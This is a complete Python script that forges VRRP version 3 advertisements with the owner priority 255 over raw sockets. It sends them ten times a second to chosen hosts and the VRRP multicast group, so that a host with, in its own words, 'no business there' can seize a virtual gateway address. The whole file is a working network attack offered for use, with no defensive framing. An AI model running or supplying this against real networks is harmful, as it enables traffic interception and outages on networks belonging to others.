#!/usr/bin/env python3
"""Claim a virtual IP address as nobody may: advertisements of VRRP version 3 with the priority of an owner, 255 (RFC 5798, 5.2.4).

usage: advertise.py ROUTER_ID ADDRESS SECONDS DESTINATION...

Ten a second to each destination, from a host that has no business there.
"""

import socket
import struct
import sys
import time

MULTICAST = "224.0.0.18"


def checksum(data: bytes) -> int:
    """The internet checksum (RFC 1071)."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def advertisement(router_id: int, address: str, source: str, destination: str) -> bytes:
    """Version 3, type advertisement; one address, every 10 hundredths of a second."""

    def packet(check: int) -> bytes:
        return struct.pack("!BBBBHH4s", 0x31, router_id, 255, 1, 10, check, socket.inet_aton(address))

    pseudo = struct.pack("!4s4sBBH", socket.inet_aton(source), socket.inet_aton(destination), 0, 112, 12)
    return packet(checksum(pseudo + packet(0)))


def main() -> None:
    router_id, address, seconds = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
    senders = []
    for destination in (*sys.argv[4:], MULTICAST):
        sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, 112)
        sender.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
        sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
        sender.connect((destination, 0))
        senders.append((sender, advertisement(router_id, address, sender.getsockname()[0], destination)))
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for sender, packet in senders:
            sender.send(packet)
        time.sleep(0.1)


main()
